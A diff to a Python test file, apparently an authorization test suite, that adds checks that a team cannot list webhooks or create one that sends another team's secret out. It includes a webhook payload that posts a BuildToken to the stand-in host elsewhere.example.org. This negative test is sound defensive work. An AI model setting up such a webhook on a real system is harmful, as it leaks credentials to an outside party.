@@ -65,7 +65,14 @@ class Company:
             f"/secrets/{self.secrets[name]}" for name in ("BuildToken", "TheirToken", "FreeToken")
         )
         role = {"name": "Mine", "permissions": [{"scope": "role:manage:*"}]}
+        webhook = {
+            "teamUuid": self.special,
+            "events": [{"name": "contract_published"}],
+            "request": {"method": "POST", "url": "https://elsewhere.example.org/${user.BuildToken}"},
+        }
         return {
+            "list webhooks": ("GET", "/webhooks", None),
+            "send the secret elsewhere": ("POST", "/webhooks", webhook),
             "see another team's secret": ("GET", theirs, None),
             "see a secret of no team": ("GET", free, None),
             "rotate another team's secret": ("PUT", theirs, {"value": SECOND}),
@@ -164,6 +171,7 @@ async def _is_told(running: Running, updater: Client, company: Company, since: i
         (secret["BuildToken"], "edit_secret"),
         ("secret:manage", "create_secret"),
         ("role:manage", "create_role"),
+        ("webhook:manage", "create_webhook"),
     } <= denied
     text = str(told) + str(before)
     assert all(value not in text for value in (FIRST, SECOND, OTHERS))
